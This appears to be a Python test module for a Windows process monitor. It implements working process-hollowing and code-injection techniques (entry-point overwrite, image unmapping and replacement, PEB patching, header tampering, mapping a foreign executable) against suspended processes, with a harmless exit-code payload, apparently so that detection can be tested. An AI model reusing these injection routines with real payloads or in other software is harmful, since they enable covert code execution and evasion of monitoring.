"""Attacks on a new process by its creator: they change its memory from outside before it has run.

Each attack takes the pid, and a folder of its own. The injected code ends the process with status HOLLOWED.
"""

import ctypes
import shutil
import subprocess
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

from procmon.win32 import memory, process
from procmon.win32.handles import Handle
from procmon.win32.kernel import open_process

__all__ = ["ATTACKS", "HOLLOWED", "change_entry", "start_suspended_and_hollow"]

HOLLOWED = 77
CODE = b"\xb8" + HOLLOWED.to_bytes(4, "little") + b"\xc3"  # mov eax, HOLLOWED; ret: of both bitnesses

ALL_MEMORY = 0x0400 | 0x1000 | 0x0008 | 0x0010 | 0x0020  # query information, operate on, read and write memory
COMMIT_AND_RESERVE, READ_WRITE_EXECUTE, PAGE_READONLY, SEC_IMAGE = 0x3000, 0x40, 0x02, 0x1000000
VIEW_UNMAP = 2
CREATE_SUSPENDED = 4

POINTER = ctypes.c_void_p
SIZE = ctypes.c_size_t


def function(library: str, name: str, result: object, *arguments: object) -> Callable[..., int]:
    found = getattr(ctypes.WinDLL(library, use_last_error=True), name)
    found.restype, found.argtypes = result, arguments
    return found  # type: ignore[no-any-return]


def allocate(opened: Handle, at: int | None, size: int) -> int:
    call = function("kernel32", "VirtualAllocEx", POINTER, POINTER, POINTER, SIZE, ctypes.c_uint32, ctypes.c_uint32)
    where = call(int(opened), at, size, COMMIT_AND_RESERVE, READ_WRITE_EXECUTE)
    assert where, ctypes.WinError(ctypes.get_last_error())
    return where


def protect(opened: Handle, at: int, size: int, protection: int) -> int:
    old = ctypes.c_uint32()
    call = function("kernel32", "VirtualProtectEx", ctypes.c_int32, POINTER, POINTER, SIZE, ctypes.c_uint32, POINTER)
    assert call(int(opened), at, size, protection, ctypes.byref(old)), ctypes.WinError(ctypes.get_last_error())
    return old.value


def unmap(opened: Handle, base: int) -> None:
    assert function("ntdll", "NtUnmapViewOfSection", ctypes.c_int32, POINTER, POINTER)(int(opened), base) == 0


def overwrite(opened: Handle, at: int, data: bytes) -> None:
    """Write to read-only memory, and restore its protection."""
    old = protect(opened, at, len(data), READ_WRITE_EXECUTE)
    memory.write(opened, at, data)
    protect(opened, at, len(data), old)


def image_of(opened: Handle) -> tuple[int, bytes]:
    """The address of its image, and all of its bytes."""
    base = process.image_base(opened, process.pebs(opened)[0])
    data, at = b"", base
    while (region := memory.region_at(opened, at)).allocation_base == base:
        data += memory.read(opened, region.base, region.size)
        at = region.base + region.size
    return base, data


def changed_image(opened: Handle) -> tuple[int, bytes]:
    base, image = image_of(opened)
    entry = process.start_address(opened) - base
    return base, image[:entry] + CODE + image[entry + len(CODE) :]


# ------------------------------------------------------------------------------------------------------------- attacks


@contextmanager
def opened(pid: int) -> Iterator[Handle]:
    with open_process(pid, ALL_MEMORY) as handle:
        yield handle


def change_entry(pid: int, folder: Path | None = None) -> None:
    """Other code at the entry point."""
    with opened(pid) as target:
        overwrite(target, process.start_address(target), CODE)


def replace_image(pid: int, folder: Path) -> None:
    """The image is unmapped, and private memory takes its place: the best-known form of process hollowing."""
    with opened(pid) as target:
        base, image = changed_image(target)
        unmap(target, base)
        assert allocate(target, base, len(image)) == base
        memory.write(target, base, image)


def move_image(pid: int, folder: Path) -> None:
    """The image is copied elsewhere, and the PEBs name that address."""
    with opened(pid) as target:
        _, image = changed_image(target)
        copy = allocate(target, None, len(image))
        memory.write(target, copy, image)
        for peb in process.pebs(target):
            at = peb.address + 2 * peb.pointer_bytes
            memory.write(target, at, copy.to_bytes(peb.pointer_bytes, "little"))


def change_header(pid: int, folder: Path) -> None:
    """The header in memory names another entry point."""
    with opened(pid) as target:
        base, image = image_of(target)
        at = int.from_bytes(image[0x3C:0x40], "little") + 24 + 16
        overwrite(target, base + at, (int.from_bytes(image[at : at + 4], "little") + 1).to_bytes(4, "little"))


def map_other(pid: int, folder: Path) -> None:
    """Another executable is mapped in its place: a true image, but not of its file."""
    with opened(pid) as target:
        base = process.image_base(target, process.pebs(target)[0])
        other = shutil.copy(process.image_path(target), str(folder))
        unmap(target, base)
        map_image(target, base, other)


def map_image(target: Handle, base: int, path: str) -> None:
    create = function(
        "kernel32", "CreateFileMappingW", POINTER, POINTER, POINTER, ctypes.c_uint32, *[ctypes.c_uint32] * 2, POINTER
    )
    map_view = function(
        "ntdll", "NtMapViewOfSection", ctypes.c_int32, POINTER, POINTER, POINTER, SIZE, SIZE, POINTER, POINTER,
        ctypes.c_uint32, ctypes.c_uint32, ctypes.c_uint32,
    )  # fmt: skip
    import msvcrt

    with open(path, "rb") as file:
        section = create(msvcrt.get_osfhandle(file.fileno()), None, PAGE_READONLY | SEC_IMAGE, 0, 0, None)
    assert section, ctypes.WinError(ctypes.get_last_error())
    with Handle(section):
        where, size = ctypes.c_void_p(base), SIZE()
        status = map_view(
            section, int(target), ctypes.byref(where), 0, 0, None, ctypes.byref(size), VIEW_UNMAP, 0, PAGE_READONLY
        )
    assert status & 0xFFFFFFFF < 0x80000000 and where.value == base, hex(status & 0xFFFFFFFF)


ATTACKS = {
    "code at the entry point": change_entry,
    "the image replaced": replace_image,
    "the image moved": move_image,
    "the header": change_header,
    "another executable": map_other,
}


def start_suspended_and_hollow(command: Sequence[str] | str) -> int:
    """Start a program as attackers do: suspended, changed, resumed. Returns its exit status."""
    program = subprocess.Popen(command, creationflags=CREATE_SUSPENDED)
    change_entry(program.pid)
    print("hollowed", flush=True)
    resume = ctypes.WinDLL("ntdll").NtResumeProcess
    resume.argtypes = [POINTER]
    assert resume(int(program._handle)) == 0  # type: ignore[attr-defined]
    return program.wait()
